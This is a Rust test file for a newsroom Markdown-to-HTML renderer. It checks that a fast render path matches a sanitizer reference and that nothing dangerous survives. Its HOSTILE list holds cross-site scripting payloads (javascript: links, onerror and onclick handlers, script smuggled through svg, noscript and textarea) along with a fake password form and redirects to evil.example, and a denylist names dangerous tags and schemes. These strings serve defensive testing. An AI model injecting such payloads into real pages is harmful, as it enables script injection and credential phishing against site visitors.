//! The fast render path against the reference (pulldown-cmark's whole output through the
//! HTML sanitizer, as every render worked before) over a corpus: the team's Russian
//! article, the CommonMark and GFM examples, our own cases and hostile ones.
//!
//! - Where the Markdown holds no raw HTML, both give the same bytes.
//! - Where it does, the output is a fixed point of the sanitizer (cleaning it again
//!   changes nothing, so nothing the allow-list refuses is in it), and no script, event
//!   handler, form control or unsafe address survives.

use newsroom_text::render::{policy, render, render_reference, Images};
use pulldown_cmark::{Event, Parser};
use std::path::PathBuf;
use std::sync::atomic::AtomicUsize;
use std::sync::Arc;

fn fixture(path: &str) -> String {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(path);
    std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("fixture {} must exist: {e}", path.display()))
}

fn commonmark_examples() -> Vec<String> {
    let json: serde_json::Value =
        serde_json::from_str(&fixture("tests/fixtures/commonmark-examples.json")).unwrap();
    json["cases"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap().to_owned())
        .collect()
}

/// Markdown a journalist writes, and what pulldown-cmark decorates with attributes.
const OURS: &[&str] = &[
    "# Заголовок\n\n**жирный**, *курсив*, ~~зачёркнуто~~, `код`",
    "Ссылка [с заголовком](https://example.kz/a?x=1&y=2 \"Он сказал \\\"да\\\" & ушёл\")",
    "Адрес <https://example.kz/путь?q=да> и почта <desk@example.kz>",
    "![Фото: «Министр» & <свита>](https://example.kz/i.jpg \"подпись\")",
    "![вложенное *описание* `с кодом`](https://example.kz/i.jpg)",
    "```rust\nfn main() {}\n```\n\n```c++ extra words\nint x;\n```\n\n```rust,ignore\nx\n```\n\n```\nplain\n```",
    "| Лево | Центр | Право |\n|:-----|:-----:|------:|\n| 1 | 2 | 3 |\n",
    "- [x] готово\n- [ ] не готово\n\n1. раз\n2. два\n\n5. пять\n6. шесть",
    "Сноска[^1] и ещё[^note].\n\n[^1]: Первая.\n[^note]: Вторая с [ссылкой](https://x.example).",
    "строка  \nперенос\\\nещё\n\n---\n\n- ***\n- пункт",
    "100\u{a0}км, 5\u{a0}%, А.\u{a0}С.\u{a0}Пушкин — «кавычки» & <угловые> \"прямые\" 'апострофы'",
    "строки\r\nс CRLF\r\n\r\n```\r\nкод\r\n```\r\n",
    "&amp; &copy; &nbsp; &#1046; &lt;script&gt;",
    "> цитата\n> > вложенная\n> - список\n>   - глубже",
    "[ссылка](<https://example.kz/a b>) [пусто]() [ref]\n\n[ref]: https://example.kz/ref 'Заголовок'",
];

/// Addresses and markup that must never reach the page.
const HOSTILE: &[&str] = &[
    "[клик](javascript:alert(1))",
    "[клик](JaVaScRiPt:alert(1))",
    "[клик](<java\tscript:alert(1)>)",
    "[клик](data:text/html;base64,PHNjcmlwdD4=)",
    "[клик](//evil.example/login)",
    "[клик](/admin) [клик](../up) [клик](#top)",
    "![пиксель](//tracker.example/p.gif)",
    "![x](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<div onclick=\"alert(1)\">x</div>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    "<form action=\"https://evil.example\"><input type=\"password\" name=\"p\"><button>Войти</button></form>",
    "Пароль: <input type=password> и <input type=text autofocus onfocus=alert(1)>",
    "абзац <b>жирный\n\nразорванный</b> <i>и *markdown* внутри</i>",
    "<textarea>\n\n<script>alert(1)</script>\n\n</textarea>",
    "<title>\n\n<img src=x onerror=alert(1)>",
    "<!-- комментарий\n\n<script>alert(1)</script> -->",
    "<code class=\"language-rust\" onclick=\"x\">ok</code> <code class=\"language-rust evil\">no</code>",
    "<a href=\"https://ok.example\" target=\"_top\" rel=\"opener\">x</a>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<p>a</p><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
];

/// The team's article as it arrives, as paragraphs, and after the typography pass (which
/// puts in no-break spaces and «quotes»).
fn articles() -> Vec<String> {
    let raw = fixture("../../tests/fixtures/article-ru-mvd.txt");
    let paragraphs = raw.replace('\n', "\n\n");
    let typeset = newsroom_text::apply_typography(&paragraphs);
    vec![raw, paragraphs, typeset]
}

fn corpus() -> Vec<String> {
    let mut all = articles();
    all.extend(commonmark_examples());
    all.extend(OURS.iter().map(|s| s.to_string()));
    all.extend(HOSTILE.iter().map(|s| s.to_string()));
    all
}

fn has_raw_html(markdown: &str) -> bool {
    Parser::new_ext(markdown, newsroom_text::markdown::parser_options())
        .any(|e| matches!(e, Event::Html(_) | Event::InlineHtml(_)))
}

fn assert_nothing_hostile(html: &str, case: &str) {
    let lower = html.to_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<input",
        "<form",
        "<button",
        "<style",
        "<textarea",
        "<meta",
        "<base",
        "<svg",
        "<math",
        "javascript:",
        "data:",
        "href=\"//",
        "src=\"//",
        "href=\"/",
        "href=\"#",
        "target=",
        "<!--",
    ] {
        assert!(
            !lower.contains(bad),
            "{bad} survived in {html:?} from {case:?}"
        );
    }
    // Any on…= attribute: a space, "on", letters, "=" inside a tag.
    let mut in_tag = false;
    let bytes = lower.as_bytes();
    for (i, b) in bytes.iter().enumerate() {
        match b {
            b'<' => in_tag = true,
            b'>' => in_tag = false,
            b' ' if in_tag && lower[i + 1..].starts_with("on") => {
                let name: String = lower[i + 1..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphabetic())
                    .collect();
                assert!(
                    !lower[i + 1 + name.len()..].starts_with('='),
                    "event handler {name} survived in {html:?} from {case:?}"
                );
            }
            _ => {}
        }
    }
}

fn assert_same(fast: &str, reference: &str, case: &str) {
    if fast != reference {
        let at = fast
            .bytes()
            .zip(reference.bytes())
            .take_while(|(a, b)| a == b)
            .count();
        let from = fast.floor_char_boundary(at.saturating_sub(80));
        panic!(
            "different output at byte {at} for {:?}\n  fast: {:?}\n  reference: {:?}",
            &case[..case.floor_char_boundary(200)],
            &fast[from..fast.floor_char_boundary((at + 80).min(fast.len()))],
            &reference[from..reference.floor_char_boundary((at + 80).min(reference.len()))],
        );
    }
}

#[test]
fn without_raw_html_the_fast_path_equals_the_sanitizer_byte_for_byte() {
    let mut compared = 0;
    for case in corpus().iter().filter(|c| !has_raw_html(c)) {
        let fast = render(case, Images::Load).html;
        let reference = render_reference(case, Images::Load);
        assert_same(&fast, &reference, case);
        compared += 1;
    }
    assert!(compared > 600, "the corpus lost its cases: {compared}");
}

#[test]
fn every_output_is_a_fixed_point_of_the_sanitizer_and_nothing_hostile_survives() {
    let mut with_raw = 0;
    for case in corpus() {
        with_raw += usize::from(has_raw_html(&case));
        for images in [Images::Load, Images::Block] {
            let fast = render(&case, images).html;
            let again = policy::sanitizer(images, Arc::new(AtomicUsize::new(0)))
                .clean(&fast)
                .to_string();
            assert_eq!(
                again, fast,
                "the sanitizer still removes something from {case:?}"
            );
            assert_nothing_hostile(&fast, &case);
            if images == Images::Block {
                assert!(!fast.contains(" src="), "{fast:?} from {case:?}");
            }
        }
    }
    assert!(
        with_raw > 100,
        "the corpus lost its raw-HTML cases: {with_raw}"
    );
}

#[test]
fn the_article_fixture_renders_with_its_text() {
    let [_, paragraphs, typeset] = <[String; 3]>::try_from(articles()).unwrap();
    let html = render(&paragraphs, Images::Load).html;
    assert!(html.matches("<p>").count() > 10, "{html}");
    assert!(html.contains("Ерлан Тургумбаев"), "{html}");
    let html = render(&typeset, Images::Load).html;
    assert!(
        html.contains("&nbsp;"),
        "the typography pass adds no-break spaces: {html}"
    );
    assert_same(&html, &render_reference(&typeset, Images::Load), &typeset);
}
